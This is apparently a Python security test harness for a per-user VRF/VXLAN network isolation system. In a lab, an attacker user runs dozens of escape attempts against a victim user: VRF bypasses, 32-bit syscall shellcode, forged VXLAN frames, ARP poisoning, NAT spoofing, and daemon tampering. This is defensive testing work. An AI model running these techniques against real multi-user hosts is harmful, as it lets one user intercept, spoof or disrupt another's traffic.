# Copyright (c) 2026 The UVN authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an ordinary user tries, in one process for many attacks: `python3 -I - NAMES < attacker.py`, NAMES as a JSON list.

Prints one JSON object: the name of each attack and what came of it, as the attacker sees it. The victim (victim.py) tells whether
the attack's token arrived. Standard library only, Python >= 3.9.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import json
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import time

# tests/lab/README.md; the attacker is alice on login1, the victim is bob on login1 and on c1
VRF, VXLAN = "vrf2002", "em1u2002"
VNI, GROUP = 2002, "239.192.193.194"
HERE4, THERE4, HERE6, THERE6 = "192.168.80.91", "192.168.80.92", "fd00:80::91", "fd00:80::92"
NAT4 = "100.64.7.210"
OWN_NAT4 = "100.64.7.209"
OFFNET = ("198.51.100.10", 8080)
TCP, UDP, UDPLITE, SCTP, MPTCP, SMC, VSOCK, EAVESDROP = 5601, 5602, 5603, 5604, 5605, 5606, 5607, 5699
ABSTRACT = "\0uvn-escape"
# bob's ports, by the attack on them: a client of a server that is down; a listener, and 20 higher its client; ports that he binds
ERRORS = {
    "errors of another's datagrams": 5610,
    "errors of another's datagrams, IPv6": 5611,
    "errors of another's datagrams, 32-bit call": 5612,
    "errors kept from a client": 5613,
}
TALKS = {
    "a deaf listener": 5620,
    "a deaf listener, IPv6": 5621,
    "a deaf listener, unbound with its peer": 5622,
    "a deaf client": 5623,
}
PORTS = {"a taken TCP port": 5660, "a taken UDP port": 5661, "many taken UDP ports": 5662}
MANY = 200  # ports from the last on
DOWN = 9  # nobody listens there
SET_UID = "/usr/local/bin/uvn-escape-root"
FDB_MAC, ARP_MAC = "02:00:00:00:00:67", "02:00:00:00:00:68"
IPPROTO_MPTCP, IPPROTO_UDPLITE, IPPROTO_L2TP, NETLINK_USERSOCK, AF_SMC, AF_KCM = 262, 136, 115, 2, 43, 41
IP_PKTINFO, IP_RECVERR, IP_FREEBIND, IP_TRANSPARENT, IP_UNICAST_IF = 8, 11, 15, 19, 50
IPV6_RECVERR, IPV6_FREEBIND, IPV6_PKTINFO, SO_BINDTOIFINDEX = 25, 78, 50, 62
SO_INCOMING_CPU = 49
WAIT = 1.5  # seconds for an answer
SILENT = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}

DGRAM, STREAM, INET, INET6 = socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.AF_INET, socket.AF_INET6

libc = ctypes.CDLL(None, use_errno=True)


def token() -> bytes:
    return f"token {CURRENT}".encode()


def udp(family=socket.AF_INET, protocol=0) -> socket.socket:
    sock = socket.socket(family, socket.SOCK_DGRAM, protocol)
    sock.settimeout(WAIT)
    return sock


def unbound(*arguments) -> socket.socket:
    """A datagram socket that connect() to AF_UNSPEC took out of its VRF (__udp_disconnect)."""
    sock = udp(*arguments)
    if libc.connect(sock.fileno(), bytes(16), 16):
        raise OSError(ctypes.get_errno(), "connect to AF_UNSPEC")
    return sock


def into(sock: socket.socket, device: str) -> socket.socket:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    return sock


def answer(sock: socket.socket) -> str:
    return sock.recv(200).decode(errors="replace")


def ask(sock: socket.socket, *address) -> str:
    sock.sendto(token(), *address)
    return answer(sock)


def talk(sock: socket.socket, address) -> str:
    """Over a connection."""
    with sock:
        sock.settimeout(WAIT)
        sock.connect(address)
        sock.sendall(token())
        return answer(sock)


def pktinfo(device: str, address: str, source="0.0.0.0", sock=None, port=UDP) -> str:
    about = struct.pack("=I4s4x", socket.if_nametoindex(device) if device else 0, socket.inet_aton(source))
    sock = sock or udp()
    sock.sendmsg([token()], [(socket.IPPROTO_IP, IP_PKTINFO, about)], 0, (address, port))
    return answer(sock)


def pktinfo6(device: str, address: str) -> str:
    about = socket.inet_pton(socket.AF_INET6, "::") + struct.pack("=I", socket.if_nametoindex(device))
    sock = udp(socket.AF_INET6)
    sock.sendmsg([token()], [(socket.IPPROTO_IPV6, IPV6_PKTINFO, about)], 0, (address, UDP))
    return answer(sock)


def unicast_if(sock: socket.socket) -> str:
    sock.setsockopt(socket.IPPROTO_IP, IP_UNICAST_IF, struct.pack("!I", socket.if_nametoindex(VRF)))
    return ask(sock, ("127.0.0.1", UDP))


def multicast_if(sock: socket.socket) -> str:
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("=8xi", socket.if_nametoindex(VXLAN)))
    return ask(sock, ("239.9.9.9", UDP))


def fast_open() -> str:
    """A connection that begins with data (TCP fast open)."""
    with socket.socket() as sock:
        sock.sendto(token(), socket.MSG_FASTOPEN, ("127.0.0.1", TCP))
        sock.settimeout(WAIT)
        return answer(sock)


def scoped(address: str) -> str:
    return ask(udp(socket.AF_INET6), (address, UDP, 0, socket.if_nametoindex(VXLAN)))


def bind_scoped(kind: int, address: str) -> str:
    """bind() to an address of link scope takes the device from the address, whatever the socket is bound to (__inet6_bind)."""
    sock = socket.socket(socket.AF_INET6, kind)
    sock.settimeout(WAIT)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    sock.bind((address, 0, 0, socket.if_nametoindex(VRF)))
    return talk(sock, ("::1", TCP)) if kind == socket.SOCK_STREAM else ask(sock, ("::1", UDP))


def bind_ifindex() -> str:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, SO_BINDTOIFINDEX, socket.if_nametoindex(VRF))
    return talk(sock, ("127.0.0.1", TCP))


def eavesdrop() -> str:
    """bob talks to himself all the time; an unbound socket hears every VRF (udp_l3mdev_accept)."""
    sock = unbound()
    sock.bind(("0.0.0.0", EAVESDROP))
    return answer(sock)


def impersonate() -> str:
    """In bob's VRF, on the port that he talks to."""
    sock = into(unbound(), VRF)
    sock.bind(("127.0.0.1", EAVESDROP))
    return answer(sock)


def bind_32(sock: socket.socket) -> None:
    """SO_BINDTOIFINDEX as a 32-bit program asks for it (int $0x80), which programs on the cgroup do not see."""
    code = bytes.fromhex("5356578b078b5f048b4f088b570c8b77108b7f14cd805f5e5bc3")  # registers from the array, the call, and back
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT; read, write, execute
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[: len(code)] = code
    page[256:260] = struct.pack("=i", socket.if_nametoindex(VRF))
    page[512:536] = struct.pack("=6i", 366, sock.fileno(), socket.SOL_SOCKET, SO_BINDTOIFINDEX, start + 256, 4)
    ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)(start + 512)


def copy(family: int, port: int, peer: int = 0, move=lambda sock: into(sock, VRF), cpu: int = 0) -> socket.socket:
    """A socket with one of bob's ports, in his VRF if that can be; what is refused on the way does not stop her.

    Of two equal ones the kernel prefers that whose last packet came on the same processor; a socket may claim one.
    """
    sock = udp(family)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, SO_INCOMING_CPU, cpu)
    sock.setsockopt(socket.IPPROTO_IP, IP_RECVERR, 1)
    if family == INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVERR, 1)
    sock.bind(("", port))
    libc.connect(sock.fileno(), bytes(16), 16)  # AF_UNSPEC: the device goes, the port stays
    with contextlib.suppress(OSError):
        move(sock)
    if peer:
        with contextlib.suppress(OSError):
            sock.connect(("::1" if family == INET6 else "127.0.0.1", peer))
    return sock


def errors(sock: socket.socket) -> str:
    """ICMP errors quote what bob sent."""
    sock.setblocking(False)
    for _again in range(40):
        time.sleep(0.1)
        with contextlib.suppress(BlockingIOError):
            return sock.recvmsg(2000, 1000, socket.MSG_ERRQUEUE)[0].decode()
    return "no errors"


def stay(_held: object) -> str:
    """bob tells what he misses meanwhile."""
    time.sleep(4)
    return "stayed"


def take(kind: int, port: int) -> str:
    """A port of bob's VRF: the scope id becomes the device."""
    sock = socket.socket(INET6, kind)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    with contextlib.suppress(OSError):
        sock.bind(("fe80::1", port, 0, socket.if_nametoindex(VRF)))
    return stay(sock)


def as_set_uid() -> str:
    """A set-UID root program that opens its socket first, drops its rights and lets its caller name a device."""
    code = f"""
import ctypes, os, socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.setresuid(*[os.getuid()] * 3)
ctypes.CDLL(None).connect(sock.fileno(), bytes(16), 16)
sock.setsockopt(1, 25, {VRF.encode()!r})
sock.sendto({token()!r}, ("127.0.0.1", {UDP}))
print(sock.getsockopt(1, 25, 16))
"""
    return output(SET_UID, "-I", "-c", code)


def transparent() -> str:
    sock = udp()
    sock.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    return "secret"


def spoofed_nat(sock: socket.socket) -> str:
    """The answer of a server outside comes in to bob's port, as if he had asked."""
    sock.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    sock.bind((NAT4, UDP))
    sock.sendto(b"from the NAT address of bob", OFFNET)
    time.sleep(WAIT)
    return "sent"


def spoofed_nat_by_message() -> str:
    about = struct.pack("=I4s4x", 0, socket.inet_aton(NAT4))
    sock = udp()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", UDP))
    sock.sendmsg([b"from the NAT address of bob"], [(socket.IPPROTO_IP, IP_PKTINFO, about)], 0, OFFNET)
    time.sleep(WAIT)
    return "sent"


def ping(sock: socket.socket, device: str) -> str:
    """An echo out of bob's VRF."""
    about = struct.pack("=I8x", socket.if_nametoindex(device))
    sock.sendmsg([struct.pack("!BBHHH", 8, 0, 0, 0, 1) + token()], [(socket.IPPROTO_IP, IP_PKTINFO, about)], 0, ("127.0.0.1", 0))
    return "secret" if token() in sock.recv(200) else "nothing"


def frame(source: str, target: str) -> bytes:
    """A VXLAN frame (RFC 7348) for bob's network, with a datagram to his port."""
    text = token()
    datagram = struct.pack("!HHHH", 4444, UDP, 8 + len(text), 0) + text
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]
    host = int.from_bytes(hashlib.sha256(target.encode()).digest()[:5], "big")
    mac = b"\x02" + (host ^ VNI).to_bytes(5, "big")  # as underlay.py gives it; the VNI is bob's UID
    return struct.pack("!II", 0x08000000, VNI << 8) + mac + b"\x02\0\0\0\0\x66\x08\0" + header + datagram


def forge(sock: socket.socket, outer: str, target: str, device: str = "") -> str:
    if device:
        into(sock, device)
    sock.sendto(frame("192.168.87.66", target), (outer, 800))
    return "sent"


def poison(neighbour: str, lladdr: str) -> str:
    """An ARP request (RFC 826) in a VXLAN frame to bob's network here: its sender goes into the forwarding and the neighbour table."""
    mac = bytes.fromhex(lladdr.replace(":", ""))
    addresses = (mac, socket.inet_aton(neighbour), bytes(6), socket.inet_aton(HERE4))
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 1, *addresses)
    udp().sendto(struct.pack("!II", 0x08000000, VNI << 8) + b"\xff" * 6 + mac + b"\x08\x06" + arp, ("127.0.0.1", 800))
    return "sent"


def smc() -> str:
    sock = libc.socket(AF_SMC, socket.SOCK_STREAM, 0)
    if sock < 0:
        raise OSError(ctypes.get_errno(), "AF_SMC")
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", SMC, socket.inet_aton(THERE4))
    if libc.connect(sock, address, len(address)):
        raise OSError(ctypes.get_errno(), "connect")
    os.write(sock, token())
    return os.read(sock, 200).decode()


def created(family: int, kind: int, protocol: int = 0) -> str:
    sock = libc.socket(family, kind, protocol)
    if sock < 0:
        raise OSError(ctypes.get_errno(), f"address family {family}")
    return "secret"


def output(*words: str) -> str:
    """What a program prints, or its last complaint."""
    done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20, check=False)
    return done.stdout.strip() or ["no word", *done.stderr.strip().splitlines()][-1]


def in_user_namespace(code: str) -> str:
    return output("unshare", "--user", "--map-root-user", "python3", "-I", "-c", f"import socket; {code}; print('secret')")


def started_by(*words: str) -> str:
    """The plain TCP connection, in a program that another one starts."""
    code = f"s = socket.create_connection(('127.0.0.1', {TCP}), 5); s.sendall({token()!r}); print(s.recv(99).decode())"
    return output(*words, "python3", "-I", "-c", f"import socket; {code}")


def slirp() -> str:
    """The plain TCP connection from an own network namespace, whose gateway 10.0.2.2 is slirp4netns's way to the host's localhost."""
    code = f"""
import socket, time
for _again in range(50):
    try:
        s = socket.create_connection(("10.0.2.2", {TCP}), 5)
    except OSError as error:
        print(error, flush=True)
        if isinstance(error, ConnectionRefusedError):
            break
        time.sleep(0.2)  # until slirp4netns has made the way out
    else:
        s.sendall({token()!r})
        print(s.recv(99).decode())
        break
"""
    command = ["unshare", "--user", "--map-root-user", "--net", "python3", "-I", "-c", code]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as inside:
        while os.readlink(f"/proc/{inside.pid}/ns/net") == os.readlink("/proc/self/ns/net"):
            time.sleep(0.05)
        with subprocess.Popen(["slirp4netns", "--configure", str(inside.pid), "tap0"], **SILENT) as helper:
            said = inside.communicate(timeout=20)[0].splitlines()
            helper.terminate()
    return (said or ["no word"])[-1]


def started_by_manager() -> str:
    """The same; whether it got through, bob's listener says."""
    said = started_by("systemd-run", "--user", "--quiet", "--collect")
    time.sleep(8)  # for a start on an emulated node
    return said


def ping_program() -> str:
    """ping has CAP_NET_RAW, so it may bind a raw socket to any device."""
    said = output("ping", "-I", VRF, "-c", "1", "-W", "2", "127.0.0.1")
    return "secret" if "1 received" in said else said.splitlines()[-1]


def io_uring() -> str:
    """A socket made by IORING_OP_SOCKET: bound like any other?"""

    def setup(number, *arguments):
        result = libc.syscall(number, *arguments)
        if result < 0:
            raise OSError(ctypes.get_errno(), "io_uring")
        return result

    parameters = ctypes.create_string_buffer(120)
    ring = setup(425, 2, parameters)
    _sq, _cq, _flags, _cpu, _idle, features, _wq = struct.unpack_from("=7I", parameters.raw)
    sq = struct.unpack_from("=7I", parameters.raw, 40)  # head, tail, ring_mask, ring_entries, flags, dropped, array
    cq = struct.unpack_from("=5I", parameters.raw, 80)  # head, tail, ring_mask, ring_entries, overflow, then cqes
    cqes = struct.unpack_from("=6I", parameters.raw, 80)[5]
    rings = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    entries[:64] = struct.pack("=BBHiQQII32x", 45, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0)  # IORING_OP_SOCKET
    rings[sq[6] : sq[6] + 4] = struct.pack("=I", 0)
    rings[sq[1] : sq[1] + 4] = struct.pack("=I", 1)
    setup(426, ring, 1, 1, 1, None, 0)
    assert features & 1 and cq[1], "rings of Linux 5.4 and newer"
    descriptor = struct.unpack_from("=QiI", rings, cqes)[1]
    sock = socket.socket(fileno=descriptor)
    sock.settimeout(WAIT)
    if not sock.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).strip(b"\0"):
        into(sock, VRF)
    return ask(sock, ("127.0.0.1", UDP))


def uvnd() -> str:
    sock = socket.socket(socket.AF_UNIX)
    sock.connect("/run/uvn/uvnd.sock")
    sock.sendall(b'{"op": "remove", "user": "bob"}\n')
    return "secret"


def ready_file() -> str:
    """uvnd would seem to vouch for a network that nobody made."""
    os.symlink("2003", "/run/uvn/ready/mallory")
    return "secret"


def passed_socket() -> str:
    """bob hands alice one of his sockets over a Unix socket: she has what he gave her."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(WAIT)
        sock.connect("/tmp/uvn-escape.sock")
        _data, descriptors, _flags, _address = socket.recv_fds(sock, 100, 1)
    sock = socket.socket(fileno=descriptors[0])
    sock.settimeout(WAIT)
    return ask(sock, ("127.0.0.1", UDP))


def own(address: str) -> str:
    """Traffic that must pass: a listener of the user's own, and the network outside."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as listener:
        listener.bind((address, 0))
        listener.listen()
        with socket.create_connection(listener.getsockname()[:2], WAIT) as sock:
            sock.sendall(b"hello")
            return listener.accept()[0].recv(5).decode()


def outside() -> str:
    with socket.create_connection(OFFNET, 5) as sock:
        return "hello" if sock.recv(100).startswith(b"ext offnet") else "?"


def remote() -> str:
    """The services of root on the other node."""
    with socket.create_connection((THERE4, 7007), 5) as sock:
        return "hello" if sock.recv(100).startswith(b"c1 wildcard") else "?"


def dns() -> str:
    return "hello" if socket.getaddrinfo("offnet.lab.test", 80) else "?"


def unconnected() -> str:
    """glibc's getaddrinfo and others dissolve an association and make another one with the same socket."""
    sock = unbound()
    sock.connect(("127.0.0.1", DOWN))
    sock.send(b"hello")
    return "hello"


PROGRAMS = {
    "TCP": lambda: talk(socket.socket(), ("127.0.0.1", TCP)),
    "TCP, other node": lambda: talk(socket.socket(), (THERE4, TCP)),
    "TCP, IPv6": lambda: talk(socket.socket(INET6), ("::1", TCP)),
    "UDP": lambda: ask(udp(), ("127.0.0.1", UDP)),
    "UDP, other node": lambda: ask(udp(), (THERE4, UDP)),
    "UDP-Lite": lambda: ask(udp(socket.AF_INET, IPPROTO_UDPLITE), ("127.0.0.1", UDPLITE)),
    "SCTP": lambda: talk(socket.socket(socket.AF_INET, STREAM, socket.IPPROTO_SCTP), ("127.0.0.1", SCTP)),
    "TCP fast open": fast_open,
    "SO_BINDTODEVICE": lambda: talk(into(socket.socket(), VRF), ("127.0.0.1", TCP)),
    "SO_BINDTOIFINDEX": bind_ifindex,
    "io_uring": io_uring,
    "systemd-run --user": started_by_manager,
    "subordinate UID": lambda: started_by("unshare", "--user", "--map-auto", "--setuid", "1"),
    "own network namespace, pasta": lambda: started_by("pasta", "--quiet", "--tcp-ns", str(TCP), "--"),
    "own network namespace, slirp4netns": slirp,
    "NAT address": lambda: talk(socket.socket(), (NAT4, TCP)),
    "NAT address, from outside": lambda: talk(into(socket.socket(), "em1"), (NAT4, TCP)),
    "IP_PKTINFO, the NIC itself": lambda: pktinfo("em1", THERE4, OWN_NAT4, port=7009) and "secret",  # as the node, past the network
    "IP_PKTINFO, VRF": lambda: pktinfo(VRF, "127.0.0.1"),
    "IP_PKTINFO, VXLAN": lambda: pktinfo(VXLAN, HERE4),
    "IP_PKTINFO, VRF, other node": lambda: pktinfo(VRF, THERE4),
    "IP_PKTINFO, VXLAN, other node": lambda: pktinfo(VXLAN, THERE4),
    "IP_PKTINFO, UDP-Lite": lambda: pktinfo(VRF, "127.0.0.1", sock=udp(socket.AF_INET, IPPROTO_UDPLITE), port=UDPLITE),
    "IP_PKTINFO, unbound": lambda: pktinfo(VRF, "127.0.0.1", sock=unbound()),
    "IP_PKTINFO, ping": lambda: ping(unbound(socket.AF_INET, socket.IPPROTO_ICMP), VRF),
    "IPV6_PKTINFO, VRF": lambda: pktinfo6(VRF, "::1"),
    "IPV6_PKTINFO, VXLAN": lambda: pktinfo6(VXLAN, THERE6),
    "IP_UNICAST_IF": lambda: unicast_if(udp()),
    "IP_UNICAST_IF, unbound": lambda: unicast_if(unbound()),
    "IP_MULTICAST_IF": lambda: multicast_if(udp()),
    "IP_MULTICAST_IF, unbound": lambda: multicast_if(unbound()),
    "scope id": lambda: scoped("ff02::1"),
    "unbound, then into the VRF": lambda: ask(into(unbound(), VRF), ("127.0.0.1", UDP)),
    "unbound, then into the VXLAN": lambda: ask(into(unbound(), VXLAN), (THERE4, UDP)),
    "unbound, IPv6": lambda: ask(into(unbound(INET6), VRF), ("::1", UDP)),
    "unbound, eavesdropping": eavesdrop,
    "unbound, impersonating": impersonate,
    "errors of another's datagrams": lambda: errors(copy(INET, ERRORS[CURRENT], DOWN)),
    "errors of another's datagrams, IPv6": lambda: errors(copy(INET6, ERRORS[CURRENT], DOWN)),
    "errors of another's datagrams, 32-bit call": lambda: errors(copy(INET, ERRORS[CURRENT], DOWN, bind_32)),
    "errors kept from a client": lambda: stay(copy(INET, ERRORS[CURRENT], DOWN)),
    "a deaf listener": lambda: stay(copy(INET, TALKS[CURRENT], TALKS[CURRENT] + 20)),
    "a deaf listener, IPv6": lambda: stay(copy(INET6, TALKS[CURRENT], TALKS[CURRENT] + 20)),
    "a deaf listener, unbound with its peer": lambda: stay(copy(INET, TALKS[CURRENT], TALKS[CURRENT] + 20, lambda sock: None)),
    "a deaf client": lambda: stay([copy(INET, TALKS[CURRENT] + 20, TALKS[CURRENT], cpu=cpu) for cpu in range(os.cpu_count())]),
    "a taken TCP port": lambda: take(STREAM, PORTS[CURRENT]),
    "a taken UDP port": lambda: take(DGRAM, PORTS[CURRENT]),
    "many taken UDP ports": lambda: stay([copy(INET, PORTS[CURRENT] + number) for number in range(MANY)]),
    "set-UID root program": as_set_uid,
    "link-local bind, UDP": lambda: bind_scoped(DGRAM, "fe80::1"),
    "link-local bind, multicast": lambda: bind_scoped(DGRAM, "ff02::1"),
    "link-local bind, TCP": lambda: bind_scoped(STREAM, "fe80::1"),
    "IP_TRANSPARENT": transparent,
    "IP_FREEBIND, another's NAT address": lambda: spoofed_nat(udp()),
    "IP_PKTINFO, another's NAT address": spoofed_nat_by_message,
    "VXLAN to localhost": lambda: forge(udp(), "127.0.0.1", HERE4),
    "VXLAN to the own address": lambda: forge(udp(), HERE4, HERE4),
    "VXLAN to another node": lambda: forge(udp(), THERE4, THERE4),
    "VXLAN to the group": lambda: forge(udp(), GROUP, THERE4),
    "VXLAN over IPv6": lambda: forge(udp(INET6), THERE6, THERE4),
    "FDB poisoning": lambda: poison("192.168.80.67", FDB_MAC),
    "ARP in a VXLAN frame": lambda: poison("192.168.80.68", ARP_MAC),
    "VXLAN from an unbound socket": lambda: forge(unbound(), THERE4, THERE4, "em1"),
    "VXLAN from a host without UVN": lambda: forge(udp(), HERE4, HERE4),
    "VXLAN to the group from a host without UVN": lambda: forge(udp(), GROUP, HERE4, "em1"),
    "ping -I": ping_program,
    "MPTCP": lambda: talk(socket.socket(socket.AF_INET, STREAM, IPPROTO_MPTCP), (THERE4, MPTCP)),
    "AF_SMC": smc,
    "AF_VSOCK": lambda: talk(socket.socket(socket.AF_VSOCK, STREAM), (1, VSOCK)),
    "AF_KCM": lambda: created(AF_KCM, DGRAM),
    "NETLINK_USERSOCK": lambda: created(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK),
    "L2TP over IP": lambda: created(socket.AF_INET, DGRAM, IPPROTO_L2TP),
    "abstract Unix socket": lambda: talk(socket.socket(socket.AF_UNIX), ABSTRACT),
    "packet socket in a user namespace": lambda: in_user_namespace("socket.socket(17, 3, 768)"),
    "raw socket in a user namespace": lambda: in_user_namespace("socket.socket(2, 3, 1)"),
    "IP_TRANSPARENT in a user namespace": lambda: in_user_namespace("socket.socket(2, 2).setsockopt(0, 19, 1)"),
    "sudo": lambda: output("sudo", "-n", "-u", "bob", "echo", "secret"),
    "su": lambda: output("su", "bob", "-c", "echo secret"),
    "systemd-run --uid": lambda: output("systemd-run", "--uid=bob", "--quiet", "--pipe", "--wait", "echo", "secret"),
    "uvnd's socket": uvnd,
    "ready file": ready_file,
    "a socket that its owner passes": passed_socket,
    "own localhost": lambda: own("127.0.0.1"),
    "own localhost, IPv6": lambda: own("::1"),
    "own address": lambda: own(HERE4),
    "outside": outside,
    "root's service on another node": remote,
    "DNS": dns,
    "connected datagrams": unconnected,
}
CURRENT = ""


def attempt(name: str) -> str:
    """One attack in a process of its own."""
    global CURRENT
    CURRENT = name
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(25)
        try:
            said = PROGRAMS[name]()
        except Exception as error:  # noqa: BLE001 - whatever stops it is the result
            said = getattr(error, "strerror", None) or str(error) or type(error).__name__
        os.write(writing, said.encode()[:200])
        os._exit(0)
    os.close(writing)
    said = os.read(reading, 200).decode(errors="replace")
    os.close(reading)
    os.waitpid(child, 0)
    return said or "no answer in time"


if __name__ == "__main__":
    print(json.dumps({name: attempt(name) for name in json.loads(sys.argv[1])}))
